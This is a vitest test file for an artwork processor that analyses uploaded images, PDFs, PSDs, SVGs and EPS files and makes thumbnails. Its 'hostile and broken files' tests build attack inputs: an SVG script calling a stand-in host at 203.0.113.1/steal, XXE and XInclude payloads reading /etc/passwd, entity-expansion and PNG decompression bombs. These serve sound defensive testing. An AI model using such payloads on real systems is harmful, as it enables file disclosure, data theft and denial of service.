// Every fixture is made here: rasters with sharp, PDFs with pdf-lib, a PSD with ag-psd, SVG and
// EPS as text, HEIC with libheif's heif-enc when the machine has it (Debian: libheif-examples).
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { writePsdBuffer } from 'ag-psd';
import { pngBomb } from '../../../tests/support/png-bomb.js';
import { PDFDocument, PDFName, rgb, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processArtwork, type ProcessArtworkResult } from './process-artwork.js';

let dir: string;
const file = (name: string) => path.join(dir, name);

function solid(width: number, height: number, channels: 3 | 4 = 3) {
  return sharp({ create: { width, height, channels, background: { r: 220, g: 20, b: 60, alpha: 0.6 } } });
}

async function twoPagePdf(creator?: string): Promise<Uint8Array<ArrayBuffer>> {
  const pdf = await PDFDocument.create();
  if (creator) {
    // Illustrator names itself in the XMP metadata, which it leaves uncompressed.
    const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/"><xmp:CreatorTool>${creator}</xmp:CreatorTool></rdf:Description></rdf:RDF></x:xmpmeta>`;
    const stream = pdf.context.stream(xmp, { Type: 'Metadata', Subtype: 'XML' });
    pdf.catalog.set(PDFName.of('Metadata'), pdf.context.register(stream));
  }
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (const [width, height] of [
    [612, 792],
    [300, 300],
  ] as const) {
    const page = pdf.addPage([width, height]);
    page.drawRectangle({ x: 50, y: 50, width: width - 100, height: height - 100, color: rgb(0, 0.4, 0.8) });
    page.drawText('Acme Plumbing', { x: 60, y: height / 2, size: 24, font, color: rgb(1, 1, 1) });
  }
  // Uncompressed objects, so the creator can be seen as in Illustrator's own files.
  return new Uint8Array(await pdf.save({ useObjectStreams: !creator }));
}

// A "DOS EPS": 30-byte binary header, the PostScript, then a TIFF preview.
function dosEps(postscript: string, tiff: Buffer): Buffer {
  const ps = Buffer.from(postscript, 'latin1');
  const header = Buffer.alloc(30);
  header.writeUInt32BE(0xc5d0d3c6, 0);
  header.writeUInt32LE(30, 4);
  header.writeUInt32LE(ps.length, 8);
  header.writeUInt32LE(30 + ps.length, 20);
  header.writeUInt32LE(tiff.length, 24);
  header.writeUInt16LE(0xffff, 28);
  return Buffer.concat([header, ps, tiff]);
}

const EPS = `%!PS-Adobe-3.0 EPSF-3.0
%%Creator: a test
%%BoundingBox: 0 0 720 360
%%HiResBoundingBox: 0 0 720 360
%%DocumentProcessColors: Cyan Magenta
%%EndComments
newpath 10 10 moveto 700 340 lineto stroke
showpage
%%EOF
`;

const hasHeifEnc = (() => {
  try {
    execFileSync('heif-enc', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'artwork-test-'));
  await solid(1200, 800).png().toFile(file('rgb.png'));
  await solid(640, 480, 4).toColourspace('rgb16').png().toFile(file('rgba16.png'));
  await solid(300, 200).png({ palette: true }).toFile(file('palette.png'));
  await solid(1200, 800).toColourspace('cmyk').jpeg().toFile(file('cmyk.jpg'));
  await solid(1200, 800).jpeg().withMetadata({ orientation: 6, density: 300 }).toFile(file('portrait.jpg'));
  await solid(1200, 800).toColourspace('b-w').jpeg().toFile(file('grey.jpg'));
  // Two frames of different colours (the GIF writer merges identical ones).
  const frames = Buffer.alloc(120 * 160 * 3, 100).fill(200, 120 * 80 * 3);
  await sharp(frames, { raw: { width: 120, height: 160, channels: 3, pageHeight: 80 } })
    .gif()
    .toFile(file('animated.gif'));
  await solid(800, 600, 4).webp().toFile(file('alpha.webp'));
  await solid(800, 600).avif({ effort: 0 }).toFile(file('photo.avif'));
  const pages = await Promise.all([1, 2, 3].map(() => solid(500, 400).png().toBuffer()));
  await sharp(pages, { join: { animated: true } })
    .tiff()
    .toFile(file('three-pages.tiff'));
  await solid(3000, 2000).tiff({ compression: 'lzw' }).toFile(file('lzw.tif'));
  await solid(1200, 800).jpeg().toFile(file('not-a-png.png'));
  if (hasHeifEnc) {
    await solid(1200, 800).png().toFile(file('for-heic.png'));
    execFileSync('heif-enc', ['-q', '50', '-o', file('phone.heic'), file('for-heic.png')], { stdio: 'ignore' });
  }

  await writeFile(file('two-pages.pdf'), await twoPagePdf());
  await writeFile(file('illustrator.ai'), await twoPagePdf('Adobe Illustrator 28.0 (Macintosh)'));
  const scan = await PDFDocument.create();
  const photo = await scan.embedPng(await solid(600, 400).png().toBuffer());
  scan.addPage([864, 576]).drawImage(photo, { x: 0, y: 0, width: 864, height: 576 });
  await writeFile(file('picture-in-a.pdf'), await scan.save());
  const whole = await twoPagePdf();
  await writeFile(file('truncated.pdf'), whole.subarray(0, Math.floor(whole.length * 0.3)));
  await writeFile(file('garbage.pdf'), Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 0x41)]));

  const width = 400;
  const height = 300;
  const pixels = new Uint8ClampedArray(width * height * 4);
  for (let i = 0; i < pixels.length; i += 4) pixels.set([20, 120, 220, 255], i);
  await writeFile(file('layers.psd'), writePsdBuffer({ width, height, imageData: { width, height, data: pixels } }));
  const bigPsd = writePsdBuffer({
    width: 8,
    height: 8,
    imageData: { width: 8, height: 8, data: new Uint8ClampedArray(256) },
  });
  bigPsd.writeUInt32BE(30_000, 14);
  bigPsd.writeUInt32BE(30_000, 18);
  await writeFile(file('claims-huge.psd'), bigPsd);

  await writeFile(
    file('logo.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100"><rect width="200" height="100" fill="#0a0"/><circle cx="100" cy="50" r="40" fill="#fff"/></svg>',
  );
  await solid(50, 50).png().toFile(file('secret.png'));
  await writeFile(
    file('hostile.svg'),
    `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
  <script>fetch('http://203.0.113.1/steal')</script>
  <rect width="100" height="100" fill="#fff"/>
  <image href="file://${file('secret.png')}" width="100" height="100"/>
  <image xlink:href="secret.png" width="100" height="100"/>
  <image href="http://203.0.113.1/tracker.png" width="100" height="100"/>
  <text>&b;</text>
</svg>`,
  );
  await writeFile(
    file('xxe.svg'),
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><text x="5" y="60" font-size="40">&xxe;</text></svg>`,
  );
  await writeFile(
    file('xinclude.svg'),
    `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><rect width="400" height="100" fill="#fff"/>
<text x="5" y="60" font-size="40"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></text></svg>`,
  );
  await writeFile(
    file('kilometre.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg" width="100000000" height="50000000"><rect width="100%" height="100%" fill="#00f"/></svg>',
  );

  await writeFile(file('plain.eps'), EPS);
  await writeFile(file('preview.eps'), dosEps(EPS, await solid(240, 120).tiff().toBuffer()));
  await writeFile(file('bomb.png'), pngBomb());
  await writeFile(file('notes.txt'), 'Please print this on the front.');
}, 120_000);

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

// A wall-clock backstop of 60 s unless a test sets its own: the niced vector reader can wait for a
// core while other test files fill both; the deadline itself is tested below with 30 ms.
async function run(name: string, options = {}): Promise<ProcessArtworkResult> {
  return processArtwork(file(name), file(`${name}.thumb.webp`), { timeoutMs: 60_000, ...options });
}

async function expectThumbnail(result: ProcessArtworkResult, name: string, longSide = 400) {
  if (!result.ok) throw new Error(`${name}: ${result.code} ${result.reason}`);
  expect(result.thumbnail).toMatchObject({ made: true, mediaType: 'image/webp' });
  const meta = await sharp(file(`${name}.thumb.webp`)).metadata();
  expect(meta.format).toBe('webp');
  expect(Math.max(meta.width, meta.height)).toBe(longSide);
  return meta;
}

describe('processArtwork on rasters', () => {
  it('reads an RGB PNG and previews it at 400 px', async () => {
    const result = await run('rgb.png');
    expect(result).toMatchObject({
      ok: true,
      analysis: {
        format: 'png',
        mediaType: 'image/png',
        width: 1200,
        height: 800,
        colourMode: 'rgb',
        hasAlpha: false,
        isVector: false,
      },
    });
    await expectThumbnail(result, 'rgb.png');
  });

  it('reads a 16-bit PNG with alpha', async () => {
    const result = await run('rgba16.png');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'png', width: 640, height: 480, hasAlpha: true, bitDepth: 16 },
    });
    await expectThumbnail(result, 'rgba16.png');
  });

  it('reads a palette PNG as indexed', async () => {
    const result = await run('palette.png');
    expect(result).toMatchObject({ ok: true, analysis: { colourMode: 'indexed' } });
    await expectThumbnail(result, 'palette.png', 300);
  });

  it('reads a CMYK JPEG and previews it in sRGB', async () => {
    const result = await run('cmyk.jpg');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'jpeg', colourMode: 'cmyk', width: 1200, height: 800 },
    });
    const meta = await expectThumbnail(result, 'cmyk.jpg');
    expect(meta.space).toBe('srgb');
  });

  it('reads a phone-style sideways JPEG upright, with its density', async () => {
    const result = await run('portrait.jpg');
    expect(result).toMatchObject({ ok: true, analysis: { width: 800, height: 1200, density: 300 } });
    const meta = await expectThumbnail(result, 'portrait.jpg');
    expect(meta.height).toBe(400);
  });

  it('reads a greyscale JPEG as grey', async () => {
    expect(await run('grey.jpg')).toMatchObject({ ok: true, analysis: { colourMode: 'grey' } });
  });

  it('reads an animated GIF: frames, indexed colour, first frame previewed', async () => {
    const result = await run('animated.gif');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'gif', width: 120, height: 80, pages: 2, colourMode: 'indexed' },
    });
    await expectThumbnail(result, 'animated.gif', 120);
  });

  it('reads WebP with alpha and AVIF', async () => {
    expect(await run('alpha.webp')).toMatchObject({ ok: true, analysis: { format: 'webp', hasAlpha: true } });
    const avif = await run('photo.avif');
    expect(avif).toMatchObject({
      ok: true,
      analysis: { format: 'avif', mediaType: 'image/avif', width: 800, height: 600 },
    });
    await expectThumbnail(avif, 'photo.avif');
  });

  it('reads a three-page TIFF and a large LZW TIFF', async () => {
    const pages = await run('three-pages.tiff');
    expect(pages).toMatchObject({ ok: true, analysis: { format: 'tiff', width: 500, height: 400, pages: 3 } });
    await expectThumbnail(pages, 'three-pages.tiff');
    await expectThumbnail(await run('lzw.tif'), 'lzw.tif');
  });

  it('trusts the bytes, not the name', async () => {
    expect(await run('not-a-png.png')).toMatchObject({
      ok: true,
      analysis: { format: 'jpeg', mediaType: 'image/jpeg' },
    });
  });

  it.skipIf(!hasHeifEnc)('reads an HEVC HEIC from a phone, which libvips alone cannot decode', async () => {
    const result = await run('phone.heic');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'heic', mediaType: 'image/heic', width: 1200, height: 800 },
    });
    await expectThumbnail(result, 'phone.heic');
  });
});

describe('processArtwork on vector and layered files', () => {
  it('reads a two-page PDF: size in points, pages, first page previewed', async () => {
    const result = await run('two-pages.pdf');
    expect(result).toMatchObject({
      ok: true,
      analysis: {
        format: 'pdf',
        mediaType: 'application/pdf',
        isVector: true,
        width: 612,
        height: 792,
        pages: 2,
        density: 72,
      },
    });
    const meta = await expectThumbnail(result, 'two-pages.pdf');
    expect(meta.width).toBe(309);
    // The middle of the page is the blue rectangle, its corner the white paper.
    const { data, info } = await sharp(file('two-pages.pdf.thumb.webp')).raw().toBuffer({ resolveWithObject: true });
    const at = (x: number, y: number) =>
      Array.from(data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3));
    expect(at(5, 5).every((value) => value > 240)).toBe(true);
    const [r = 0, , b = 0] = at(150, 100);
    expect(b).toBeGreaterThan(150);
    expect(r).toBeLessThan(60);
  });

  it("sees a PDF that only holds a picture, and the picture's pixels", async () => {
    expect(await run('picture-in-a.pdf')).toMatchObject({
      ok: true,
      analysis: {
        format: 'pdf',
        width: 864,
        height: 576,
        firstPage: { vectorOrText: false, images: 1, largestImage: { width: 600, height: 400 } },
      },
      thumbnail: { made: true },
    });
  });

  it('tells an Illustrator file from a PDF and draws its first page', async () => {
    const result = await run('illustrator.ai');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'ai', mediaType: 'application/illustrator', pages: 2, isVector: true },
    });
    await expectThumbnail(result, 'illustrator.ai');
  });

  it('reads a PSD from its header and previews its composite', async () => {
    const result = await run('layers.psd');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'psd', mediaType: 'image/vnd.adobe.photoshop', width: 400, height: 300, colourMode: 'rgb' },
    });
    await expectThumbnail(result, 'layers.psd');
  });

  it('rasterises an SVG to a WebP preview', async () => {
    const result = await run('logo.svg');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'svg', isVector: true, width: 200, height: 100, density: 72 },
    });
    await expectThumbnail(result, 'logo.svg');
  });

  it('reads an EPS bounding box and says why there is no preview', async () => {
    const result = await run('plain.eps');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'eps', isVector: true, width: 720, height: 360, colourMode: 'cmyk' },
      thumbnail: { made: false, code: 'no-renderer' },
    });
    expect(existsSync(file('plain.eps.thumb.webp'))).toBe(false);
  });

  it('previews an EPS from the TIFF preview it carries', async () => {
    const result = await run('preview.eps');
    expect(result).toMatchObject({ ok: true, analysis: { format: 'eps', width: 720, height: 360 } });
    await expectThumbnail(result, 'preview.eps', 240);
  });
});

describe('processArtwork on hostile and broken files', () => {
  it('measures a PNG decompression bomb without opening it', async () => {
    const result = await run('bomb.png');
    expect(result).toMatchObject({
      ok: true,
      analysis: { format: 'png', width: 100_000, height: 100_000 },
      thumbnail: { made: false, code: 'too-many-pixels' },
    });
    expect(existsSync(file('bomb.png.thumb.webp'))).toBe(false);
  });

  it('refuses a PSD that declares 30000 × 30000 before decoding it', async () => {
    expect(await run('claims-huge.psd')).toMatchObject({
      ok: true,
      analysis: { width: 30_000, height: 30_000 },
      thumbnail: { made: false, code: 'too-many-pixels' },
    });
  });

  it('ends a truncated PDF and a garbage PDF cleanly with a reason', async () => {
    for (const name of ['truncated.pdf', 'garbage.pdf']) {
      const result = await run(name);
      expect(result).toMatchObject({ ok: false, code: 'damaged' });
      if (!result.ok) expect(result.reason).not.toBe('');
    }
  });

  it('draws a hostile SVG without running its script or loading anything it points at', async () => {
    const result = await run('hostile.svg');
    const meta = await expectThumbnail(result, 'hostile.svg');
    expect(meta.width).toBe(400);
    // Had the red "secret" image been loaded it would cover the white rectangle.
    const { data } = await sharp(file('hostile.svg.thumb.webp')).raw().toBuffer({ resolveWithObject: true });
    const [r = 0, g = 0, b = 0] = data.subarray((200 * 400 + 200) * 3);
    expect([r, g, b].every((value) => value > 240)).toBe(true);
  });

  it('reads no server file through an SVG entity or XInclude', async () => {
    expect(await run('xxe.svg')).toMatchObject({ ok: false, code: 'damaged' });
    await expectThumbnail(await run('xinclude.svg'), 'xinclude.svg');
    const { data } = await sharp(file('xinclude.svg.thumb.webp')).raw().toBuffer({ resolveWithObject: true });
    expect(data.every((value) => value > 230)).toBe(true);
  });

  it('measures an SVG that claims to be kilometres wide and refuses to draw it', async () => {
    const result = await run('kilometre.svg');
    expect(result).toMatchObject({
      ok: true,
      analysis: { width: 100_000_000, height: 50_000_000 },
      thumbnail: { made: false, code: 'too-many-pixels' },
    });
  });

  it('kills a reader that runs past its deadline', async () => {
    const result = await run('two-pages.pdf', { timeoutMs: 30 });
    // Killed, not left to finish: the code says so (no clock asserted: a loaded machine is slow).
    expect(result).toMatchObject({ ok: false, code: 'timeout' });
  });

  it('kills a reader that grows past its memory cap', async () => {
    const result = await run('lzw.tif', { memoryMb: 20 });
    expect(result).toMatchObject({ ok: false, code: 'memory-limit' });
  });

  it('says what is not artwork, and what is missing', async () => {
    expect(await run('notes.txt')).toMatchObject({ ok: false, code: 'unsupported-format' });
    expect(await run('nothing-here.png')).toMatchObject({ ok: false, code: 'not-found' });
  });

  it('still works after all of that', async () => {
    await expectThumbnail(await run('rgb.png'), 'rgb.png');
    expect(await readFile(file('rgb.png.thumb.webp'))).not.toHaveLength(0);
  });
});
